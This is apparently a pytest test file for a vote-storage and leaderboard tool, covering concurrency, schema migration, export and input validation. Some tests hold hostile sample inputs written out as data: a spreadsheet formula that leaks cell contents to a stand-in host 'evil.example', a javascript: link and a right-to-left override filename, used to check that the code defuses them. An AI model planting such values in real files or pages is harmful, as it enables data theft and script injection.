from __future__ import annotations

import csv
import json
import sqlite3
import threading

import pytest

from longform_eval.spaces.fields import FieldError
from longform_eval.spaces.leaderboard import (
    agreement_summary,
    annotator_table,
    compute_board,
    human_battles,
    judge_battles,
    ratings_table,
)
from longform_eval.spaces.records import ANNOTATION_FIELDS, annotation_row, vote_row
from longform_eval.spaces.safe_markdown import inert_markdown
from longform_eval.spaces.storage import SCHEMA_VERSION, AlreadyVoted, NotAVotesDatabase, Vote, VoteStore, csv_cell

from .conftest import HOSTILE
from .legacy_databases import legacy_database

MODELS = ("m1", "m2", "m3", "m4")
OUTCOMES = ("A", "B", "equally_good", "equally_bad")


def test_200_votes_from_8_threads_give_200_rows_and_a_consistent_leaderboard(tmp_path):
    store = VoteStore(tmp_path / "votes.sqlite")
    errors = []

    def cast(thread: int) -> None:
        try:
            for i in range(25):
                a, b = MODELS[(thread + i) % 4], MODELS[(thread + i + 1) % 4]
                store.add_vote(Vote(f"ann{thread}", f"s{thread}", f"item{i}", a, b, "sorted", OUTCOMES[i % 4]))
        except Exception as error:  # noqa: BLE001 (reported below)
            errors.append(error)

    threads = [threading.Thread(target=cast, args=(t,)) for t in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert store.count() == 200
    votes = store.votes()
    assert len({(v.annotator, v.item_id) for v in votes}) == 200
    table = ratings_table(human_battles(votes), bootstrap=20)
    assert sum(row[-1] for row in table) == 400  # every battle counted for both models
    assert {row[0] for row in table} == set(MODELS)
    assert len(annotator_table(human_battles(votes))) == 8
    assert agreement_summary(votes)["votes"] == 200


def test_wal_mode_schema_version_and_export(tmp_path):
    store = VoteStore(tmp_path / "votes.sqlite")
    store.add_vote(Vote("ann", "s", "chat_002", "m1", "m2", "sorted", "A", judge_outcome="B", judge_flipped=True))
    store.add_annotation("ann", "chat_002", "report_write", "m1", [1, 0.5, 0.75, 1, 0, 0.25], 6.5)
    connection = sqlite3.connect(tmp_path / "votes.sqlite")
    assert connection.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert connection.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    paths = store.export(tmp_path / "export")
    assert [p.name for p in paths] == ["votes.csv", "votes.jsonl", "annotations.jsonl"]
    vote = json.loads(paths[1].read_text())
    assert vote["outcome"] == "A" and vote["judge_flipped"] is True
    annotation = json.loads(paths[2].read_text())
    assert annotation["checklist_scores"] == [1, 0.5, 0.75, 1, 0, 0.25] and annotation["overall_score"] == 6.5


def test_annotations_feed_fit_weights(tmp_path):
    from longform_eval.metric.helloeval.fitting import fit_weights, read_annotations

    store = VoteStore(tmp_path / "votes.sqlite")
    for i, scores in enumerate(([1, 1, 1, 1, 1, 1], [0, 0, 0, 0, 0, 0], [1, 0.5, 0, 1, 0.5, 0], [0.25] * 6)):
        store.add_annotation("ann", f"chat_{i}", "report_write", "m", scores, 10 * sum(scores) / 6)
    path = store.export(tmp_path / "export")[2]
    fit = fit_weights(read_annotations(path))["report_write"]
    assert sum(fit.weights) == pytest.approx(100) and fit.n == 4


def test_hostile_markup_renders_inert():
    safe = inert_markdown(HOSTILE)
    assert "<script" not in safe and "<img" not in safe
    assert "&lt;script&gt;" in safe and "&lt;img" in safe
    assert "javascript:" not in safe and "(#blocked-link)" in safe
    assert "(https://example.org)" in safe and "**bold stays bold**" in safe
    assert "javascript" not in inert_markdown("<javascript:alert(1)>")


def test_four_votes_fired_at_once_for_one_comparison_store_one_row(tmp_path):
    store = VoteStore(tmp_path / "votes.sqlite")
    start = threading.Barrier(4, timeout=10)
    outcomes = []

    def cast(outcome: str) -> None:
        start.wait()
        try:
            store.add_vote(Vote("ann", "s", "chat_002", "m1", "m2", "sorted", outcome, token="comparison-1"))
            outcomes.append("stored")
        except AlreadyVoted:
            outcomes.append("refused")

    threads = [threading.Thread(target=cast, args=(outcome,)) for outcome in OUTCOMES]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(outcomes) == ["refused", "refused", "refused", "stored"]
    assert store.count() == 1 and store.votes()[0].token == "comparison-1" and store.has_vote("comparison-1")


def test_a_schema_1_database_is_migrated_and_keeps_its_votes(tmp_path):
    path = legacy_database(tmp_path / "votes.sqlite", 1)
    store = VoteStore(path)
    assert SCHEMA_VERSION == 2 and sqlite3.connect(path).execute("PRAGMA user_version").fetchone()[0] == 2
    assert store.votes() == [Vote("old", "s", "chat_002", "m1", "m2", "sorted", "B", created=1.0)]
    store.add_vote(Vote("new", "s", "chat_002", "m1", "m2", "sorted", "A", token="t1"))
    store.add_vote(Vote("tokenless", "s", "chat_002", "m1", "m2", "sorted", "A"))  # NULL tokens never collide
    with pytest.raises(AlreadyVoted):
        store.add_vote(Vote("new", "s", "chat_002", "m1", "m2", "sorted", "B", token="t1"))
    assert [v.annotator for v in VoteStore(path).votes()] == ["old", "new", "tokenless"]  # reopening changes nothing


def test_a_database_newer_than_the_code_fails_clearly(tmp_path):
    path = tmp_path / "votes.sqlite"
    sqlite3.connect(path).execute(f"PRAGMA user_version={SCHEMA_VERSION + 1}")
    with pytest.raises(
        NotAVotesDatabase, match="schema version 3, newer than this longform-eval knows \\(2\\); upgrade"
    ):
        VoteStore(path)


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("annotator", "x" * 5_000_000, "annotator id is too long \\(5,000,000 characters; at most 64\\)"),
        ("annotator", "ann\x00", "annotator id contains control characters"),
        ("annotator", "ann\u202egnp.exe", "annotator id contains control characters"),  # right-to-left override
        ("annotator", "", "annotator id is empty"),
        ("session", "s\n", "session id contains control characters"),
        ("token", "t" * 65, "comparison token is too long"),
    ],
)
def test_the_store_refuses_oversized_or_control_character_ids(tmp_path, field, value, message):
    store = VoteStore(tmp_path / "votes.sqlite")
    fields = {"annotator": "ann", "session": "s", "token": "t"} | {field: value}
    with pytest.raises(FieldError, match=message):
        store.add_vote(
            Vote(fields["annotator"], fields["session"], "chat_002", "m1", "m2", "sorted", "A", token=fields["token"])
        )
    if field == "annotator":
        with pytest.raises(FieldError, match=message):
            store.add_annotation(value, "chat_002", "report_write", "m1", [1.0], 5.0)
    assert store.count() == 0 and store.annotations() == []


def test_csv_export_defuses_formulas_and_jsonl_keeps_the_raw_values(tmp_path):
    store = VoteStore(tmp_path / "votes.sqlite")
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    store.add_vote(Vote(hostile, "s", "+chat_002", "@SUM(1)", "-m2", "sorted", "A", judge_outcome=None, created=-1.5))
    store.add_vote(Vote("plain", "s", "chat_002", "m1", "m2", "sorted", "B"))
    csv_path, jsonl_path, _ = store.export(tmp_path / "export")
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8")))
    assert rows[0]["annotator"] == "'" + hostile and rows[0]["annotator"].startswith("'=HYPERLINK(")
    assert (rows[0]["item_id"], rows[0]["model_a"], rows[0]["model_b"]) == ("'+chat_002", "'@SUM(1)", "'-m2")
    assert rows[0]["created"] == "-1.5"  # numbers are not text cells: left as they are
    assert rows[1]["annotator"] == "plain" and rows[1]["model_a"] == "m1"
    raw = [json.loads(line) for line in jsonl_path.read_text(encoding="utf-8").splitlines()]
    assert raw[0]["annotator"] == hostile and raw[0]["model_a"] == "@SUM(1)" and raw[0]["item_id"] == "+chat_002"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\\u000d=1"),  # a control character is shown escaped (issue 46)
        ("a\x1b]0;T\x07", "a\\u001b]0;T\\u0007"),
        ("a=1", "a=1"),
        ("", ""),
        (-1.5, -1.5),
        (None, None),
        (True, True),
    ],
)
def test_csv_cell_prefixes_a_quote_to_formula_starts_only(value, cell):
    assert csv_cell(value) == cell


def test_many_votes_go_in_one_transaction_all_or_none(tmp_path):
    store = VoteStore(tmp_path / "votes.sqlite")
    votes = [Vote("ann", "s", f"item{i}", "m1", "m2", "sorted", OUTCOMES[i % 4], token=f"t{i}") for i in range(1000)]
    assert store.add_votes(votes) == 1000 and store.count() == 1000
    with pytest.raises(AlreadyVoted):
        store.add_votes([Vote("ann", "s", "new", "m1", "m2", "sorted", "A", token="fresh"), votes[0]])
    assert store.count() == 1000 and not store.has_vote("fresh")  # the fresh vote was rolled back with the clash
    with pytest.raises(FieldError):
        store.add_votes([Vote("ann\n", "s", "x", "m1", "m2", "sorted", "A")])
    assert store.add_votes([]) == 0 and store.count() == 1000


def test_an_import_is_one_transaction_in_order_of_time_and_a_repeated_one_adds_nothing(tmp_path):
    store = VoteStore(tmp_path / "votes.sqlite")
    store.add_vote(Vote("ann", "s", "held", "m1", "m2", "sorted", "A", token="t0", created=5.0))
    votes = [
        vote_row(Vote("ann", "s", "later", "m1", "m2", "sorted", "B", token="t1", created=3.0)),
        vote_row(Vote("old", "s", "earlier", "m2", "m3", "swapped", "A", created=2.0)),  # no token: schema 1
        vote_row(Vote("ann", "s", "held again", "m1", "m2", "sorted", "B", token="t0", created=4.0)),  # t0 is held
    ]
    values = ("ann", 1.0, "chat_002", "report_write", "m1", [1], 7)
    annotation = annotation_row(dict(zip(ANNOTATION_FIELDS, values, strict=True)))
    assert store.import_records(votes, [annotation]) == (2, 1)
    assert [v.item_id for v in store.votes()] == ["held", "earlier", "later"]
    assert store.import_records(votes, [annotation]) == (0, 0) and store.count() == 3
    assert store.annotation_records() == [annotation]
    fresh = vote_row(Vote("ann", "s", "fresh", "m1", "m2", "sorted", "A", token="t9"))
    with pytest.raises(KeyError):
        store.import_records([fresh], [{"annotator": "ann", "created": 1.0}])  # a record lacking its columns
    assert store.count() == 3 and not store.has_vote("t9")  # rolled back with the annotation that failed


def test_the_board_rates_human_votes_and_judge_verdicts_apart(tmp_path):
    votes = [
        Vote("ann", "s", f"item{i}", "m1", "m2", "sorted", "A", judge_outcome="B" if i < 6 else "unscored")
        for i in range(8)
    ]
    assert len(human_battles(votes)) == 8 and [b.annotator for b in judge_battles(votes)] == ["llm-judge"] * 6
    board = compute_board(votes, bootstrap=10)
    assert board.summary.startswith("**8 human votes** (6 with an LLM-judge verdict)")
    assert "human-judge: 0.0%" in board.summary
    assert board.human[0][0] == "m1" and board.human[0][-1] == 8  # people prefer m1, in all 8 votes
    assert board.judge[0][0] == "m2" and board.judge[0][-1] == 6  # the judge prefers m2, in the 6 it scored
    assert board.runs == [] and len(board.outputs()) == 13


def export_cli(capsys, db, out) -> tuple[int, str, str]:
    from longform_eval.inference.cli import main

    code = main(["space-export", "--db", str(db), "--out", str(out)])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def store_with_a_vote(path) -> VoteStore:
    store = VoteStore(path)
    store.add_vote(Vote("ann", "s", "chat_002", "m1", "m2", "sorted", "A"))
    return store


def test_space_export_replaces_an_earlier_export(tmp_path, capsys):
    store = store_with_a_vote(tmp_path / "votes.sqlite")
    out = tmp_path / "export"
    assert export_cli(capsys, store.path, out)[0] == 0
    store.add_vote(Vote("ann", "s", "chat_003", "m1", "m2", "sorted", "B"))
    code, printed, err = export_cli(capsys, store.path, out)
    assert (code, err) == (0, "")
    assert printed.split() == [str(out / name) for name in ("votes.csv", "votes.jsonl", "annotations.jsonl")]
    assert len((out / "votes.jsonl").read_text().splitlines()) == 2
    assert sorted(p.name for p in out.iterdir()) == [
        ".longform-eval-export.json",
        "annotations.jsonl",
        "votes.csv",
        "votes.jsonl",
    ]


def snapshot(root) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def users_votes(out) -> str:
    out.mkdir()
    (out / "votes.csv").write_text("my,own,votes\n")
    return "is not empty and not an earlier export"


def an_export_plus_a_user_file(out) -> str:
    VoteStore(out.parent / "other.sqlite").export(out)
    (out / "summary.md").write_text("my summary\n")
    return "is not empty and not an earlier export"


def a_file(out) -> str:
    out.write_text("notes\n")
    return "exists and is not a folder"


@pytest.mark.parametrize("make", [users_votes, an_export_plus_a_user_file, a_file], ids=lambda f: f.__name__)
def test_space_export_refuses_a_folder_or_file_it_did_not_write(tmp_path, capsys, make):
    store = store_with_a_vote(tmp_path / "votes.sqlite")
    out = tmp_path / "export"
    reason = make(out)
    before = snapshot(tmp_path)
    code, printed, err = export_cli(capsys, store.path, out)
    assert code == 2 and printed == "" and "Traceback" not in err and err.count("\n") == 1
    assert f"longform-eval space-export: error: --out {out}: " in err and reason in err
    assert snapshot(tmp_path) == before


def test_space_export_needs_an_existing_database(tmp_path, capsys):
    code, _, err = export_cli(capsys, tmp_path / "typo.sqlite", tmp_path / "export")
    assert code == 2 and "Traceback" not in err and f"--db {tmp_path / 'typo.sqlite'}: no such file" in err
    assert list(tmp_path.iterdir()) == []
